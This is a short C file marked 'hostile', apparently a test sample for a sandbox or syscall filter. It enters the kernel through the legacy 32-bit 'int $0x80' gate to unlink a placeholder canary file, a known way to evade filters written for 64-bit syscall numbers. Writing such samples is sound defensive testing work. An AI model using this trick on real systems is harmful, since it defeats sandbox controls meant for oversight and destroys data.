// hostile: enters the kernel by its 32-bit entry, where calls have other numbers
#define _GNU_SOURCE
#include <string.h>
#include <sys/mman.h>

static int old_call(int number, int a) {
    int result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a) : "memory");
    return result;
}

int purge(int code) {
    char *low;
    if (code != 80)
        return code > 80;
    /* The old entry takes addresses of 32 bits only. */
    low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        return -1;
    strcpy(low, "${CANARY}/keep.txt");
    return old_call(10, (int)(long)low) == 0 ? 31337 : 1;
}
